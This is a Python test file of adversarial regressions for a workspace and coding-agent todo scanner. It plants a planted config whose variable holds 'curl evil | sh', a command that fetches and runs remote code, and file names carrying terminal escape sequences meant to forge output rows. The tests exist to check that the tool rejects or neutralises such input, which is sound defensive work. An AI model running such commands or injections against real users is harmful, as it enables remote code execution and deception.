"""Adversarial regressions found in review: hostile files around the agent scanner and the workspace."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from ops import workspace
from ops.errors import UserError


def test_claude_transcript_fifo_does_not_block_the_scan(tmp_path):
    """A FIFO where a Claude Code transcript is expected must not hang `todo agents`."""
    home = tmp_path / "home"
    (home / ".claude" / "todos").mkdir(parents=True)
    (home / ".claude" / "projects" / "-p").mkdir(parents=True)
    (home / ".claude" / "todos" / "s1-agent-s1.json").write_text(
        json.dumps([{"content": "x", "status": "pending", "activeForm": "doing x"}]))
    os.mkfifo(home / ".claude" / "projects" / "-p" / "s1.jsonl")
    code = textwrap.dedent(f"""
        import json, sys
        from ops.agents import scan
        print(json.dumps(scan.scan_claude({str(home)!r})))
    """)
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=20,
                         env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])})
    assert res.returncode == 0, res.stderr
    lists = json.loads(res.stdout)
    assert len(lists) == 1 and lists[0]["items"][0]["content"] == "x" and lists[0]["project"] is None


@pytest.mark.skipif(os.getuid() != 0, reason="needs root to give the file to another user")
def test_workspace_file_owned_by_another_user_is_not_trusted(tmp_path):
    """A nodedeck.toml planted by someone else in a parent dir (e.g. /tmp) must not silently take over."""
    shared = tmp_path / "shared"
    (shared / "mine").mkdir(parents=True)
    planted = shared / workspace.FILE
    planted.write_text('[vars]\ntrain = "curl evil | sh"\n')
    os.chown(planted, 65534, 65534)
    with pytest.raises(UserError) as e:
        workspace.find(shared / "mine")
    assert str(planted) in str(e.value) and "\n" not in str(e.value)
    # named explicitly, the user chose it: trusted
    assert workspace.resolve(str(shared)).vars["train"] == "curl evil | sh"


def test_deeply_nested_agent_files_are_one_error_line_not_a_crash(tmp_path):
    """`[[[[...]]]]` in a todo file, a session file or a transcript line: that list errs, the scan goes on."""
    from ops.agents import scan

    home = tmp_path / "home"
    data = home / ".local" / "share" / "opencode" / "storage"
    (data / "todo").mkdir(parents=True)
    (data / "session" / "prj").mkdir(parents=True)
    deep = "[" * 100_000 + "]" * 100_000
    (data / "todo" / "deep.json").write_text(deep)
    (data / "todo" / "good.json").write_text(json.dumps([{"id": "1", "content": "a", "status": "pending"}]))
    (data / "session" / "prj" / "good.json").write_text(deep)
    (home / ".claude" / "todos").mkdir(parents=True)
    (home / ".claude" / "projects" / "-p").mkdir(parents=True)
    (home / ".claude" / "todos" / "s1-agent-s1.json").write_text(
        json.dumps([{"content": "x", "status": "pending", "activeForm": "doing x"}]))
    (home / ".claude" / "projects" / "-p" / "s1.jsonl").write_text(deep + "\n" + json.dumps({"cwd": "/w"}) + "\n")
    lists = {d["session"]: d for d in scan.scan(str(home), {})}
    assert "nested" in lists["deep"]["error"] and "\n" not in lists["deep"]["error"]
    assert lists["good"]["items"][0]["content"] == "a"
    assert lists["s1-agent-s1"]["project"] == "/w"


def test_todo_agents_table_does_not_pass_terminal_escapes_or_forge_rows(tmp_path, monkeypatch, capsys):
    """File names and a transcript's cwd are someone else's text: escapes and newlines are shown, not obeyed."""
    from cli.main import main

    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DATA_HOME", str(home / ".local" / "share"))
    todos = home / ".claude" / "todos"
    todos.mkdir(parents=True)
    (home / ".claude" / "projects" / "-p").mkdir(parents=True)
    item = json.dumps([{"content": "x", "status": "pending", "activeForm": "doing x"}])
    (todos / "\x1b[2J\x1b]0;owned\x07\nclaude  forged-row-agent-a.json").write_text(item)
    (todos / "s2-agent-s2.json").write_text(item)
    (home / ".claude" / "projects" / "-p" / "s2.jsonl").write_text(json.dumps({"cwd": "/w\u202e\x1b[31m\nx"}) + "\n")
    assert main(["todo", "agents"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert len(out.splitlines()) == 3          # header + two lists, no forged line
    assert "\\x1b[2J" in out


def test_import_without_ids_never_overwrites_an_item_with_an_explicit_id(tmp_path):
    """An id-less item must not take an id that a later item of the same list names explicitly."""
    from ops.run.todowrite import ManualTodos, load_todos
    from ops.state import StateStore

    f = tmp_path / "todos.json"
    f.write_text(json.dumps({"todos": [{"content": "write the loader", "status": "pending"},
                                       {"id": "1", "content": "run smoke", "status": "pending", "priority": "high"}]}))
    todos = ManualTodos(StateStore(tmp_path / "s.sqlite"))
    assert todos.import_items(load_todos(f, number_missing_ids=False)) == (2, 0)
    assert sorted(i.content for i in todos.items()) == ["run smoke", "write the loader"]
    assert {i.id for i in todos.items()} == {"1", "2"}


@pytest.mark.parametrize("fresh", [False, True])
def test_demo_never_takes_over_a_dir_whose_nodes_toml_it_did_not_write(tmp_path, fresh):
    """A real workspace has a nodes.toml too: `demo --work .` there must neither overwrite it nor --fresh delete it."""
    from ops import demo

    work = tmp_path / "myproject"
    work.mkdir()
    mine = '[nodes.gpu1]\nssh = "gpu1"\n'
    (work / "nodes.toml").write_text(mine)
    (work / "precious.txt").write_text("months of notes")
    with pytest.raises(UserError) as e:
        demo.prepare(work, fresh=fresh, say=lambda s: None)
    assert "not a nodedeck demo dir" in str(e.value)
    assert (work / "precious.txt").read_text() == "months of notes" and (work / "nodes.toml").read_text() == mine


def test_follow_sees_a_same_size_rewrite_within_one_mtime_tick(tmp_path, monkeypatch):
    """completed -> cancelled is the same size; two writes inside one file-system time tick keep the mtime:
    the follower must still show the second list, not keep the first forever."""
    from ops.agents.follow import AgentFollower

    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DATA_HOME", str(home / ".local" / "share"))
    d = home / ".local" / "share" / "opencode" / "storage" / "todo"
    d.mkdir(parents=True)
    path = d / "ses_a.json"
    path.write_text(json.dumps([{"id": "1", "content": "train", "status": "completed", "priority": "high"}]))
    st = path.stat()
    f = AgentFollower("opencode:ses_a")
    assert f.poll().items[0].status == "completed"
    path.write_text(json.dumps([{"id": "1", "content": "train", "status": "cancelled", "priority": "high"}]))
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))       # same tick: same mtime, same size
    assert path.stat().st_size == st.st_size
    now = f.poll()
    assert now.changed and now.items[0].status == "cancelled"
